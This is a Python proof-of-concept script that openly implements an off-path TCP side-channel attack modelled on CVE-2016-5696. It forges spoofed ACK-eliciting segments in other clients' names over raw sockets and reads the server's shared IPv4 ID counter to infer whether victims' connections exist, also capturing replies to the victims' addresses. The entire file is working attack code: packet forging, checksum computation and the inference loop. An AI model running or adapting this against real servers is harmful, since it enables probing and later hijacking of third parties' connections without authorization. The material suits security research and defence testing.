#!/usr/bin/env python3
"""An off-path attacker counting another client's packets through the
IPv4 ID of its own (CVE-2016-5696's inference, by IP ID).  It holds a
kept-alive connection to VIP from ATTACKER and reads the ID of the first
answer packet to each request it sends there.  For each victim (address
and port of another client's idle connection to VIP, which the attacker
would have to find by this very channel), it sends COUNT segments forged
in the victim's name from a sequence number 2^31 away, which the VIP's
stack answers (to the victim) with an ACK each; between two of its own
samples, the attacker's ID then moves by as many more if the answers
share its counter.  Also counts the answers that reached each victim's
address (raw capture), which shows the forged segments drew them.

usage: ipidprobe.py ATTACKER VIP COUNT VICTIM:PORT...
prints: one line per victim, "VICTIM moved M answered A", where M is how
much further the attacker's ID moved than over a quiet interval
"""
import select, socket, struct, sys, time

from rawtcp import csum, pending

att, vip, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
victims = [(v.split(":")[0], int(v.split(":")[1])) for v in sys.argv[4:]]
A, D = socket.inet_aton(att), socket.inet_aton(vip)
tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
rx.setblocking(False)
s = socket.socket()
s.bind((att, 0))
s.settimeout(3)
s.connect((vip, 80))
aport = s.getsockname()[1]
answered = {}


def drain():
    """The IDs of packets from VIP to the attacker's connection; counts
    those to each victim's."""
    ids = []
    for pkt in pending(rx):
        ihl = (pkt[0] & 15) * 4
        if pkt[12:16] != D or len(pkt) < ihl + 4:
            continue
        sp, dp = struct.unpack("!HH", pkt[ihl:ihl + 4])
        if sp != 80:
            continue
        if pkt[16:20] == A and dp == aport:
            ids.append(struct.unpack("!H", pkt[4:6])[0])
        for v in victims:
            if pkt[16:20] == socket.inet_aton(v[0]) and dp == v[1]:
                answered[v] = answered.get(v, 0) + 1
    return ids


def sample():
    """The ID of the first packet of the answer to one request."""
    drain()
    s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    got, end = b"", time.time() + 3
    while b"\r\n\r\n" not in got and time.time() < end:
        got += s.recv(4096)
    time.sleep(0.05)
    ids = drain()
    if not ids:
        sys.exit("ipidprobe: no answer packet seen")
    return ids[0]


def forge(victim, seq):
    V = socket.inet_aton(victim[0])
    th = struct.pack("!HHIIBBHHH", victim[1], 80, seq & 0xffffffff, 0,
                     5 << 4, 0x10, 512, 0, 0)
    ph = V + D + struct.pack("!BBH", 0, 6, len(th))
    th = th[:16] + struct.pack("!H", csum(ph + th)) + th[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(th), 1, 0x4000, 64,
                     6, 0, V, D)
    tx.sendto(ip + th, (vip, 0))


def moved(action):
    a = sample()
    action()
    time.sleep(0.3)
    b = sample()
    return (b - a) & 0xffff


quiet = min(moved(lambda: None) for _ in range(3))
for v in victims:
    def attack(v=v):
        for i in range(count):
            forge(v, 0x80000000 + i * 7919)
            time.sleep(0.002)
    m = min(moved(attack) for _ in range(2)) - quiet
    time.sleep(0.1)
    drain()
    print("%s moved %d answered %d" % (v[0], m, answered.get(v, 0)), flush=True)
